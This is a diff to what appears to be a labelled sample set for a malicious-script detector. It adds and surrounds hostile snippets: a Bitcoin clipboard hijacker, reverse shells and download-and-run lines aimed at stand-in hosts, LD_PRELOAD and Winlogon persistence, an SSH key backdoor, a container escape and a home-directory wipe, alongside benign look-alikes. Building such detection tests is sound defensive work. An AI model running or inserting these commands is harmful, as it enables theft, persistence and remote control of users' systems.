@@ -51,6 +51,8 @@ _POWERSHELL = {
     "task": "Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute x.exe)\n",
     "reverse": "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444)\n",
     "assembly": "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://files.invalid/a'))\n",
+    "addresses exchanged": "while($true){ $c = Get-Clipboard\n if($c -match '^(bc1|[13])[a-z0-9]{25,39}$')"
+    "{ Set-Clipboard 'bc1qxxx' }\n Start-Sleep 1 }\n",
     "mixed in place": "$d = [IO.File]::ReadAllBytes('x.dat')\nfor($i=0;$i -lt $d.Length;$i++){ $d[$i] = $d[$i] -bxor 90 }\n"
     "Invoke-Expression ([Text.Encoding]::UTF8.GetString($d))\n",
     "tracing": "$m=[System.Diagnostics.Eventing.EventProvider].GetField('m_enabled','NonPublic,Instance')\n",
@@ -76,6 +78,7 @@ _SHELL = {
     "python": "python3 -c \"exec(__import__('urllib.request').request.urlopen('https://files.invalid').read())\"\ncurl https://files.invalid | python3\n",
     "miner": "./xmrig -o stratum+tcp://pool.invalid:3333 -u x\n",
     "wipe": "rm -rf ~/*\n",
+    "library in the settings": "echo 'export LD_PRELOAD=/tmp/.libc.so' >> ~/.bashrc\n",
     "perl": 'perl -e \'use Socket;$i="files.invalid";socket(S,PF_INET,SOCK_STREAM,6);connect(S,$i);exec("/bin/sh -i");\'\n',
     "php": 'php -r \'$s=fsockopen("files.invalid",80);exec("/bin/sh -i <&3 >&3");\'\n',
     "authorized keys": "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys\n",
@@ -95,6 +98,9 @@ _JAVASCRIPT = {
     "characters": "eval(String.fromCharCode(97, 108, 101, 114, 116))\n",
     "activex": "var s = new ActiveXObject('WScript.Shell'); s.Run('powershell -w hidden echo');\n",
     "function": "new Function(atob('YWxlcnQoMSk='))()\n",
+    "saved and started": "const cp = require('child_process'), https = require('https'), fs = require('fs');\n"
+    "https.get('https://files.invalid/p', r => {\n  r.pipe(fs.createWriteStream(os.tmpdir() + '/p'));\n"
+    "  cp.spawn(os.tmpdir() + '/p', {detached: true});\n});\n",
     "child process": "require('child_process').exec('curl https://files.invalid/a | sh')\n",
 }
 _PAGES = {
@@ -120,6 +126,21 @@ def samples() -> Iterator[Sample]:
         yield high("vbscript", case, "start.vbs", source)
     for case, source in _JAVASCRIPT.items():
         yield high("javascript", case, "start.js", source)
+    for case, value in {"shell": '"Shell"="explorer.exe, C:\\\\x.exe"', "library": '"Userinit"="C:\\\\x.exe,"'}.items():
+        key = "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon]"
+        yield high("registry", case, "tweak.reg", f"Windows Registry Editor Version 5.00\r\n\r\n{key}\r\n{value}\r\n")
+    yield careful("shell", "out of a container", "run.sh", "#!/bin/sh\nnsenter --target 1 --mount -- sh -c id\n")
+    for case, source in {
+        "library in the settings": "#!/bin/sh\necho 'export LD_PRELOAD=/usr/lib/libtcmalloc.so' >> ~/.bashrc\n",
+        "in a container": "#!/bin/sh\ndocker run --rm -v /data:/data -v $PWD:/w vllm/vllm-openai --model x\n",
+    }.items():
+        yield benign("shell", case, "run.sh", source)
+    yield benign(
+        "javascript",
+        "saves",
+        "log.js",
+        "const log = fs.createWriteStream('log.txt');\nconst p = spawn('python', ['x.py']);\np.stdout.pipe(log);\n",
+    )
     for case, source in _PAGES.items():
         yield high("page", case, "index.html", source)
     yield careful(
